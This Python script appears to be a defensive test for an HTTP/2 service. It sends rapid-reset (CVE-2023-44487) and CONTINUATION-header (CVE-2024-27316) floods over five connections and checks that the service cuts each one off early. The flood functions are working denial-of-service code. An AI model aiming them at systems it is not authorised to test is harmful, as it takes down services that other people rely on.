"""Two floods of HTTP/2 frames, with the library h2, by somebody who has no token.

    floods.py rapid-reset | continuation

The service is to end each connection long before the flood is over.
"""

import os
import socket
import ssl
import sys

from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.events import ConnectionTerminated
from h2.exceptions import ProtocolError
from hyperframe.frame import ContinuationFrame, HeadersFrame

CONNECTIONS = 5
FLOOD = 20_000
DEADLINE = 30  # seconds, for each connection

HEADERS = [
    (":method", "GET"),
    (":scheme", "https"),
    (":authority", "localhost"),
    (":path", "/webhook?key=myremotekey"),
    ("authorization", "Bearer a.b.c"),
]


def connect():
    host, port = os.environ["ADDRESS"].rsplit(":", 1)
    context = ssl.create_default_context(cafile=os.environ["CA"])
    context.set_alpn_protocols(["h2"])
    stream = socket.create_connection((host, int(port)), timeout=DEADLINE)
    stream = context.wrap_socket(stream, server_hostname="localhost")
    assert stream.selected_alpn_protocol() == "h2"
    connection = H2Connection(H2Configuration(client_side=True))
    connection.initiate_connection()
    stream.sendall(connection.data_to_send())
    return stream, connection


def rapid_reset(stream, connection):
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    for _ in range(FLOOD):
        number = connection.get_next_available_stream_id()
        connection.send_headers(number, HEADERS, end_stream=True)
        connection.reset_stream(number, ErrorCodes.CANCEL)
        stream.sendall(connection.data_to_send())


def continuation(stream, connection):
    """A header that never ends (CVE-2024-27316)."""
    head = HeadersFrame(1, connection.encoder.encode(HEADERS))
    stream.sendall(head.serialize())
    more = ContinuationFrame(1, connection.encoder.encode([("x", "y" * 4000)])).serialize()
    for _ in range(FLOOD):
        stream.sendall(more)


def said(stream, connection):
    """The error of the server's GOAWAY, where one came through."""
    events = []
    try:
        while data := stream.recv(65536):
            events += connection.receive_data(data)
    except (OSError, ProtocolError):
        pass
    ended = [event for event in events if isinstance(event, ConnectionTerminated)]
    return [str(event.error_code) for event in ended]


def main(flood):
    for number in range(CONNECTIONS):
        stream, connection = connect()
        broken = False
        try:
            flood(stream, connection)
        except TimeoutError:
            sys.exit(f"connection {number} hangs")
        except OSError:
            broken = True
        try:
            # What is still sent after a GOAWAY the service reads and throws away, within bounds, so
            # that its client can read the GOAWAY.
            errors = said(stream, connection)
            if not (broken or errors):
                sys.exit(f"connection {number} has taken the whole flood")
            print(f"connection {number} was ended by the service: {errors}")
        finally:
            stream.close()


main({"rapid-reset": rapid_reset, "continuation": continuation}[sys.argv[1]])
